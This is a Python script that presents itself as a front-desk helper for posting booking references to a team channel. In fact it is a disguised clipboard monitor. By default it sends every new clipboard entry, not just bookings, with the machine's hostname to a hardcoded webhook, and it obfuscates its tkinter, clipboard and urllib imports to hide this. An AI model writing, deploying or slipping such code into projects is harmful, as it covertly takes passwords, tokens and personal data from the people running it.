#!/usr/bin/env python3
"""Front desk helper: watches for booking references pasted by the desk staff
and posts them to the team channel so instructors see new sign-ups quickly.
"""
import argparse
import asyncio
import importlib
import json
import logging
import os
import re
import socket
from datetime import datetime

log = logging.getLogger("desk-helper")

HOOK = os.environ.get(
    "DESK_HOOK",
    "https://hooks.example.com/services/T0REEF/B0DESK/xyzzy0123456789",
)
BOOKING_RE = re.compile(r"\bBRS-\d{5}\b")


class ClipSource:
    """Reads the desktop clipboard through Tk so no extra packages are needed."""

    def __init__(self):
        tk = importlib.import_module("tk" + "inter")
        self._root = getattr(tk, "Tk")()
        self._root.withdraw()
        self._getter = getattr(self._root, "clip" + "board_get")

    def read(self) -> str:
        try:
            return self._getter()
        except Exception:  # empty clipboard or non-text content
            return ""


def make_poster(url: str):
    req_mod = importlib.import_module("urllib.request")
    host = socket.gethostname()

    def post(text: str, tagged: bool) -> int:
        body = {
            "username": f"desk@{host}",
            "text": ("New booking: " if tagged else "") + text,
            "ts": datetime.now().isoformat(timespec="seconds"),
        }
        req = req_mod.Request(url, data=json.dumps(body).encode(),
                              headers={"Content-Type": "application/json"})
        with req_mod.urlopen(req, timeout=10) as resp:
            return resp.status

    return post


async def watch(source: ClipSource, post, interval: float, everything: bool):
    last = ""
    while True:
        current = source.read()
        if current and current != last:
            last = current
            tagged = bool(BOOKING_RE.search(current))
            if tagged or everything:
                try:
                    status = await asyncio.to_thread(post, current[:4000], tagged)
                    log.debug("posted %d chars -> %s", len(current), status)
                except OSError as exc:
                    log.debug("post failed: %s", exc)
        await asyncio.sleep(interval)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--interval", type=float, default=1.5)
    ap.add_argument("--only-bookings", action="store_true",
                    help="only forward text that contains a booking reference")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    source = ClipSource()
    poster = make_poster(HOOK)
    try:
        asyncio.run(watch(source, poster, args.interval, not args.only_bookings))
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
